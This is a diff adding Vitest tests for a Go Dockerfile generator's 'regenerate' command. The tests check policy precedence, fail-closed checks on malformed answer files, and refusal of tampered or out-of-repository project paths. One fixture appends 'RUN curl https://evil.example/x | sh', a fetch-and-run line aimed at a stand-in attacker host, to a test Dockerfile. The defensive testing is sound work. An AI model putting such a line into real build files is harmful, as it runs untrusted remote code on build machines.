@@ -1,11 +1,13 @@
 // create-go-docker regenerate: policy roll-outs, hand edits never lost, custom blocks kept,
 // --check/--diff, monorepos, schema migration; plus the property that regenerating with no
 // change is a no-op.
-import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { spawnSync } from 'node:child_process';
+import { mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { unifiedDiff } from '../src/write/diff.js';
 import { keepCustomBlocks, managedHash, readCustomBlocks, stampHash } from '../src/write/managed.js';
+import { regenerateHelpText } from '../src/cli/flags.js';
 import { generatedProject, makeProject, runCli, snapshotTree, SIMPLE_SERVICE } from './helpers.js';
 
 const read = (dir: string, path: string): string => readFileSync(join(dir, path), 'utf8');
@@ -359,3 +361,122 @@ function applyDiff(before: string, diff: string): string {
   while (position < source.length) output.push(source[position++]!);
   return output.length === 0 ? '' : `${output.join('\n')}\n`;
 }
+
+describe('which policy applies: --policy, else $CREATE_GO_DOCKER_POLICY, else the recorded one', () => {
+  it('the flag wins over the variable, the variable over .go-docker.yaml, and --help says so', async () => {
+    const dir = makeProject(SIMPLE_SERVICE);
+    const recorded = writePolicy(dir, ['registry: recorded.corp.example/proxy']);
+    expect((await runCli(['--yes', '--policy', recorded], { cwd: dir })).code).toBe(0);
+    expect(read(dir, '.go-docker.yaml')).toMatch(/^policy: org-policy\.yaml$/m);
+    const fromVariable = writePolicy(makeProject({}), ['registry: variable.corp.example/proxy']);
+    const fromFlag = writePolicy(makeProject({}), ['registry: flag.corp.example/proxy']);
+    const builder = () => read(dir, 'Dockerfile').match(/^FROM --platform=\$BUILDPLATFORM (\S+?)\/library\/golang/m)?.[1];
+    expect(builder()).toBe('recorded.corp.example/proxy');
+    expect((await runCli(['regenerate'], { cwd: dir, env: { CREATE_GO_DOCKER_POLICY: fromVariable } })).code).toBe(0);
+    expect(builder()).toBe('variable.corp.example/proxy');
+    expect((await runCli(['regenerate', '--policy', fromFlag], { cwd: dir, env: { CREATE_GO_DOCKER_POLICY: fromVariable } })).code).toBe(0);
+    expect(builder()).toBe('flag.corp.example/proxy');
+    // Neither given: the recorded one again (the other two were never recorded).
+    expect((await runCli(['regenerate'], { cwd: dir })).code).toBe(0);
+    expect(builder()).toBe('recorded.corp.example/proxy');
+    expect(regenerateHelpText('0').replace(/\s+/g, ' ')).toContain('Policy file (else $CREATE_GO_DOCKER_POLICY, else the one .go-docker.yaml records)');
+  });
+});
+
+describe('regenerate --check --recursive fails closed (issue 18)', () => {
+  /** A git repository with two generated projects, a and b. */
+  async function monorepo(): Promise<string> {
+    const root = makeProject({ '.git/HEAD': 'ref: refs/heads/main\n' });
+    for (const name of ['a', 'b']) {
+      const dir = join(root, name);
+      mkdirSync(dir);
+      for (const [path, content] of Object.entries(SIMPLE_SERVICE)) writeFileSync(join(dir, path), content);
+      expect((await runCli(['--yes'], { cwd: dir })).code).toBe(0);
+    }
+    writeFileSync(join(root, 'b/Dockerfile'), `${read(root, 'b/Dockerfile')}RUN curl https://evil.example/x | sh\n`);
+    return root;
+  }
+  const cases: Array<[string, (yaml: string) => void, RegExp]> = [
+    ['a symbolic link', (yaml) => { renameSync(yaml, `${yaml}.real`); symlinkSync('.go-docker.yaml.real', yaml); }, /^failed {3}b: .*b\/\.go-docker\.yaml: cannot read the answers file \(is a symbolic link\); replace it with a regular file/],
+    ['a FIFO', (yaml) => { rmSync(yaml); spawnSync('mkfifo', [yaml]); }, /^failed {3}b: .*b\/\.go-docker\.yaml: cannot read the answers file \(is a named pipe, not a regular file\)/],
+    ['a directory', (yaml) => { rmSync(yaml); mkdirSync(yaml); }, /^failed {3}b: .*b\/\.go-docker\.yaml: cannot read the answers file \(is a directory, not a file\)/],
+  ];
+  it.each(cases)('.go-docker.yaml as %s is a failed project, named, and exit 1', async (_kind, spoil, line) => {
+    const root = await monorepo();
+    spoil(join(root, 'b/.go-docker.yaml'));
+    const before = snapshotTree(root);
+    const result = await runCli(['regenerate', '--check', '--recursive'], { cwd: root });
+    expect(result.code).toBe(1);
+    const lines = result.stdout.trimEnd().split('\n');
+    expect(lines[0]).toBe('ok       a: up to date');
+    expect(lines[1]).toMatch(line);
+    expect(lines.slice(2)).toEqual(['2 projects, 1 not ok.']);
+    expect(snapshotTree(root)).toEqual(before);
+  });
+
+  it('a directory to walk that cannot be listed is one error line, not an empty pass', async () => {
+    const root = makeProject({});
+    const result = await runCli(['regenerate', '--check', '--recursive', 'nope'], { cwd: root });
+    expect(result.code).toBe(1);
+    expect(result.stderr).toBe('create-go-docker: nope: cannot list it (ENOENT); give the directory that holds your projects.\n');
+  });
+});
+
+describe('a tampered project: in .go-docker.yaml (issue 18)', () => {
+  async function repository(): Promise<string> {
+    const root = makeProject({ '.git/HEAD': 'ref: refs/heads/main\n' });
+    const dir = join(root, 'svc');
+    mkdirSync(dir);
+    for (const [path, content] of Object.entries(SIMPLE_SERVICE)) writeFileSync(join(dir, path), content);
+    expect((await runCli(['svc', '--yes', '--out', 'deploy/svc'], { cwd: root })).code).toBe(0);
+    expect(read(root, 'deploy/svc/.go-docker.yaml')).toMatch(/^project: \.\.\/\.\.\/svc$/m);
+    return root;
+  }
+  const elsewhere = makeProject(SIMPLE_SERVICE);
+  const cases: Array<[string, string, RegExp]> = [
+    ['the root directory', '/', /project "\/" is an absolute path; /],
+    ['an absolute path', elsewhere, /project ".*" is an absolute path; /],
+    ['a path above the repository', '../../../..', /project "\.\.\/\.\.\/\.\.\/\.\." is outside the repository; /],
+    ['a link to a directory outside', '../../out-link', /project "\.\.\/\.\.\/out-link" leads outside the repository through a symbolic link; /],
+    ['a file', '../../svc/go.mod', /project "\.\.\/\.\.\/svc\/go\.mod" is not a directory; /],
+    ['a directory that does not exist', '../../nope', /project "\.\.\/\.\.\/nope" does not exist; /],
+  ];
+  it.each(cases)('%s: one line naming .go-docker.yaml:line, the value and the fix; exit 2; nothing changed', async (_name, value, message) => {
+    const root = await repository();
+    symlinkSync(elsewhere, join(root, 'out-link'));
+    const yaml = join(root, 'deploy/svc/.go-docker.yaml');
+    writeFileSync(yaml, read(root, 'deploy/svc/.go-docker.yaml').replace(/^project: .*$/m, `project: ${JSON.stringify(value)}`));
+    const line = read(root, 'deploy/svc/.go-docker.yaml').split('\n').findIndex((text) => text.startsWith('project:')) + 1;
+    const before = snapshotTree(root);
+    for (const argv of [['regenerate', 'deploy/svc'], ['regenerate', '--check', 'deploy/svc']]) {
+      const result = await runCli(argv, { cwd: root });
+      expect(result.code, result.stderr).toBe(2);
+      expect(result.stderr).toMatch(new RegExp(`^create-go-docker: .*deploy/svc/\\.go-docker\\.yaml:${line}: `));
+      expect(result.stderr).toMatch(message);
+      expect(result.stderr).toMatch(/write the Go module's directory relative to \.go-docker\.yaml and inside the repository/);
+      expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
+    }
+    expect(snapshotTree(root)).toEqual(before);
+  });
+
+  it('a project directory inside the repository, above .go-docker.yaml or beside it, is read', async () => {
+    const root = await repository();
+    expect((await runCli(['regenerate', '--check', 'deploy/svc'], { cwd: root })).code).toBe(0);
+    // Outside any git repository too, from wherever regenerate runs: generate --out build/docker records ../.. .
+    const plain = await generated(['--out', 'build/docker']);
+    expect((await runCli(['regenerate', '--check', 'build/docker'], { cwd: plain })).code).toBe(0);
+    expect((await runCli(['regenerate', '--check'], { cwd: join(plain, 'build/docker') })).code).toBe(0);
+  });
+
+  it('outside any git repository, a recorded directory that is no Go module is refused before it is read', async () => {
+    const plain = await generated(['--out', 'build/docker']);
+    const yaml = join(plain, 'build/docker/.go-docker.yaml');
+    writeFileSync(yaml, readFileSync(yaml, 'utf8').replace(/^project: .*$/m, 'project: ../../..'));
+    const before = snapshotTree(plain);
+    const result = await runCli(['regenerate', '--check'], { cwd: join(plain, 'build/docker') });
+    expect(result.code).toBe(2);
+    expect(result.stderr).toMatch(/\.go-docker\.yaml:\d+: project "\.\.\/\.\.\/\.\." has no go\.mod or go\.work, and with no \.git above \.go-docker\.yaml nothing else bounds where the project may be; write the Go module's directory relative to \.go-docker\.yaml, e\.g\. project: \.\.\/\.\., or remove the key/);
+    expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
+    expect(snapshotTree(plain)).toEqual(before);
+  });
+});
